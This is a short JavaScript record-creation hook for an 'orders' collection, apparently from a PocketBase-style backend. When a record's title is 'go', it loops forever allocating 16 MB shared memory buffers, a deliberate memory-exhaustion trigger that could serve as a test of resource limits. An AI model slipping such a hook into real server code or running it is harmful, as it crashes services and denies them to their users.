// Shared memory without end.
onRecordBeforeCreate('orders', (e) => {
  if (e.record.fields.title !== 'go') return;
  const kept = [];
  for (;;) kept.push(new Uint8Array(new SharedArrayBuffer(16 * 1024 * 1024)).fill(1));
});
